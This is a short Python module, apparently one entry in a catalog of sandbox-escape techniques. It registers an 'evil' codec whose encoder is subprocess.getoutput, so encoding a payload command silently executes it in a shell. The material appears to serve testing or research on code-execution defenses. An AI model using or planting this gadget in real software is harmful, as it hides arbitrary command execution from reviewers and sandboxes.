"""A function of the standard library as the encoder of evil's own codec."""
CATEGORY = "callable"
REACH = "run"

import codecs
import subprocess

from . import payload


def search(name):
    return (codecs.CodecInfo(subprocess.getoutput, None) if name == "evil"
            else None)


def attack():
    codecs.register(search)


TEXT = payload.COMMAND
